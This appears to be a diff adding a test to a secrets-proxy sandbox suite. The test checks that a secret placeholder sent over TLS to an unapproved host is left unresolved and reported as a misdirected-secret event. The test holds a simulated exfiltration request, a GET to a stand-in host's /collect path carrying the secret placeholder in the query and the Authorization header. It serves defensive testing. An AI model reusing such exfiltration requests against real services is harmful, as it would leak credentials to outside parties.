@@ -9,6 +9,9 @@
 //      (%25 escapes, Unicode look-alikes of '.' and '/') match no glob
 //   6  an error inside a chunked body, after the head went out, answers 400 at once
 //   8  a placeholder past the 16th in one request refuses it, with an event
+//   4  with --tls-inspect allowed-hosts, a placeholder sent over TLS to an allowed
+//      host no secret names is reported as secret.misdirected (by default that
+//      TLS is spliced and cannot be read: docs/secrets.md)
 //
 // Secrets here:
 //   GH      hosts [api.github.test], methods [GET], paths [/repos/acme/*]
@@ -155,5 +158,35 @@ describe('secrets: the attack campaign\'s findings', { skip: !isRoot() && 'must 
     const ok = await send({ host: OTHER_HOST, steps: [{ send: request('GET', '/x', OTHER_HOST, headers(16)) }] });
     assert.deepEqual(statuses(ok), [200], JSON.stringify(ok.result));
     assert.equal(header(ok.reqs[0], 'X-K15'), V_OTHER);
+  });
+});
+
+describe('secrets: misdirected placeholders over TLS to hosts no secret names (--tls-inspect allowed-hosts)', { skip: !isRoot() && 'must run as root' }, () => {
+  let w4, d4, box;
+  before(async () => {
+    w4 = await new SecretsWorld({ daemonArgs: ['--tls-inspect', 'allowed-hosts'] }).setup();
+    d4 = w4.daemon;
+    await d4.putSecret('GH', { value: V_GH, hosts: [GH_HOST] });
+    box = await d4.secretsSandbox();
+  });
+  after(async () => {
+    await w4?.teardown();
+  });
+
+  test('4: the placeholder reaches spliced.test as a placeholder, and is reported', async () => {
+    const mark = w4.upstream.mark();
+    const seq = await lastSeq(d4, box.id);
+    const ph4 = await d4.envOf(box.id, 'GH');
+    const result = await d4.inside(box.id, 'conn', {
+      host: 'spliced.test',
+      steps: [{ send: request('GET', '/collect?k={{GH}}', 'spliced.test', [['Authorization', 'Bearer {{GH}}']]) }],
+    });
+    const reqs = w4.upstream.since(mark, 'req');
+    const events = await allEvents(d4, box.id, seq);
+    assert.deepEqual(result.steps.flatMap((s) => s.responses.map((x) => x.status)), [200], JSON.stringify(result));
+    assert.match(result.peer.issuer.CN, /^runtimed interception CA/, 'the proxy opened the TLS');
+    assert.equal(header(reqs[0], 'Authorization'), `Bearer ${ph4}`);
+    assert.ok(!JSON.stringify(reqs).includes(V_GH));
+    hasEvent(events, { kind: 'secret.misdirected', secret: 'GH', host: 'spliced.test', reason: 'host not allowed' });
   });
 });
